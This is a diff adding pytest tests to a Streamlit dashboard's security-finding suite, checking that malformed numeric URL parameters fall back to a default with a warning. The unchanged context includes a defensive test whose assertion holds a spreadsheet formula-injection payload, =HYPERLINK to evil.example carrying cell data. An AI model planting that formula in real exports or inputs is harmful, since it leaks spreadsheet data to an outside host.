@@ -17,6 +17,7 @@ import pytest
 from download_helpers import Downloads
 from streamlit.testing.v1 import AppTest
 from streamlit.util import calc_hash
+from test_sqlpages import write_tiny_plus
 
 from dashboard.access import audit
 from dashboard.config import ROOT, workbench_max_bytes
@@ -348,3 +349,35 @@ def test_finding_07_a_sign_in_name_reaches_the_audit_csv_as_text(base, monkeypat
     # the user column: a leading quote, the CSV's own quotes doubled
     assert ',"\'=HYPERLINK(""http://evil.example/?""&A2,""Mở"")",' in row
     assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
+
+
+# ---- finding 13: SQL page numbers from the URL ----------------------------------------------------------------
+
+REDECLARED = "phan_tich-thu_tuc_khai_bao_lai_theo_tinh"  # its `top`: a whole number, default 3, 1..10, step 1
+
+
+@pytest.fixture(scope="module")
+def plus_base(tmp_path_factory):
+    return write_tiny_plus(tmp_path_factory.mktemp("tiny_plus_finding_13"))
+
+
+@pytest.mark.parametrize("text", ["nan", "inf", "-inf", "2.5", "1e400", "abc", "11"])
+def test_finding_13_a_bad_number_in_the_link_gets_the_notice_and_the_default(plus_base, monkeypatch, text):
+    at = workbench_app(plus_base, monkeypatch)
+    at.query_params["p_top"] = text
+    at._page_hash = calc_hash(REDECLARED)
+    at = at.run()
+    assert not at.exception, at.exception
+    assert t("filter.bad_url", "vi", detail=f"p_top={text}") in [w.value for w in at.warning]
+    top = at.number_input(key=f"sqlp_{REDECLARED}_top")
+    assert top.value == 3 and isinstance(top.value, int)
+    assert "p_top" not in at.query_params  # the default is not written back into the link
+
+
+def test_finding_13_a_good_number_in_the_link_is_taken_without_a_notice(plus_base, monkeypatch):
+    at = workbench_app(plus_base, monkeypatch)
+    at.query_params["p_top"] = "5.0"  # a whole number written with a decimal point
+    at._page_hash = calc_hash(REDECLARED)
+    at = at.run()
+    assert not at.exception and not [w for w in at.warning if "p_top" in w.value]
+    assert at.number_input(key=f"sqlp_{REDECLARED}_top").value == 5
